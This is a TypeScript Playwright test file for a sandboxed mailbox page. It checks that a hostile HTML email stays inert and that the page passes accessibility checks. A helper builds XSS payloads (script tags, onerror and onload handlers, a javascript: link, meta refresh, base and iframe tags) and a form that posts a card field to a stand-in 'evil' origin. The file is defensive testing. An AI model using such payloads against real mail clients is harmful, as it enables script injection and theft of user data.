/** The mailbox page in a real browser: hostile mail stays text, and no rule of accessibility is broken. */
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type RunningMailbox, startMailbox } from '@undertow/sandbox/src/mailbox/mailbox.ts';
import { createTransport } from 'nodemailer';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { violations } from '#tests/drive/accessibility.ts';
import { sharedBrowser } from '#tests/drive/browser.ts';
import { freePorts } from '#tests/drive/free-ports.ts';

const SUBJECT = '<img src=x onerror="document.title=\'run\'">';

/** `evil`: an origin that must never be called. */
function hostile(evil: string): string {
  return `<h1>Your plan</h1><script>top.document.title='run'</script><img src="${evil}/pixel" onerror="document.title='run'">
<a href="javascript:opener.document.title='run'">Click</a><form action="${evil}/"><input name="card"><button>Send</button></form>
<link rel="stylesheet" href="${evil}/x.css"><meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/">
<iframe src="${evil}/frame"></iframe><svg onload="document.title='run'"></svg>`;
}

let dataDir: string;
let mailbox: RunningMailbox;
let origin: string;
let browser: Browser;
const called: string[] = [];
const evil = createServer((request, response) => {
  called.push(request.url ?? '');
  response.end();
});

async function listen(server: Server): Promise<number> {
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  return (server.address() as AddressInfo).port;
}

beforeAll(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'undertow-mailbox-'));
  const pagePort = await freePorts(2);
  const smtpPort = pagePort + 1;
  mailbox = await startMailbox({ dataDir, host: '127.0.0.1', pagePort, smtpPort });
  origin = `http://localhost:${pagePort}`;
  const transport = createTransport(`smtp://127.0.0.1:${smtpPort}`);
  const html = hostile(`http://127.0.0.1:${await listen(evil)}`);
  const from = 'hello@undertow.local';
  await transport.sendMail({
    from,
    to: 'jane@example.com',
    subject: SUBJECT,
    text: `${html}\nhttps://undertow.example/settings?a=1&b=2`,
    html,
  });
  await transport.sendMail({ from, to: 'jane@example.com', subject: 'Welcome', text: 'Hello Jane' });
  browser = await sharedBrowser();
});
afterAll(async () => {
  await mailbox?.close();
  evil.close();
  rmSync(dataDir, { recursive: true, force: true });
});

async function openPage(colorScheme: 'light' | 'dark'): Promise<Page> {
  const context = await browser.newContext({ colorScheme, locale: 'en-GB' });
  const page = await context.newPage();
  await page.goto(origin);
  return page;
}

/** The frame holds the sender's markup, which the mailbox does not correct. */
const WITHOUT_MAIL = { exclude: 'iframe' };

test('a hostile mail is shown without scripts, loads, form posts or navigation', async () => {
  const page = await openPage('light');
  await page.getByRole('link', { name: SUBJECT }).click();
  await page.getByRole('heading', { name: SUBJECT }).waitFor();
  expect(await page.locator('pre').textContent()).toContain('<svg onload=');
  const frame = page.frameLocator('iframe');
  await frame.getByRole('heading', { name: 'Your plan' }).waitFor();
  await frame.getByRole('button', { name: 'Send' }).click();
  await frame.getByText('Click').click();
  await page.waitForTimeout(500);
  expect(await page.title()).toBe(`${SUBJECT} · Mailbox`);
  expect(page.url()).toContain(`${origin}/mail/`);
  expect(called).toEqual([]);
  const link = page.getByRole('link', { name: 'https://undertow.example/settings?a=1&b=2' });
  expect(await link.getAttribute('href')).toBe('https://undertow.example/settings?a=1&b=2');
  await page.context().close();
});

test.each(['light', 'dark'] as const)('in %s no rule of accessibility is broken', async (colorScheme) => {
  const page = await openPage(colorScheme);
  expect(await violations(page, WITHOUT_MAIL)).toEqual([]);
  await page.getByRole('link', { name: SUBJECT }).click();
  await page.frameLocator('iframe').getByRole('heading', { name: 'Your plan' }).waitFor();
  expect(await violations(page, WITHOUT_MAIL)).toEqual([]);
  await page.context().close();
});

test('mail can be refused, accepted again and deleted from the page', async () => {
  const page = await openPage('light');
  await page.getByLabel('Delivery').selectOption('busy');
  await page.getByRole('button', { name: 'Set' }).click();
  await page.locator('option[value=busy][selected]').waitFor({ state: 'attached' });
  await page.getByRole('button', { name: 'Delete all' }).click();
  await page.getByText('No mail yet.').waitFor();
  expect(await violations(page, WITHOUT_MAIL)).toEqual([]);
  await page.context().close();
});
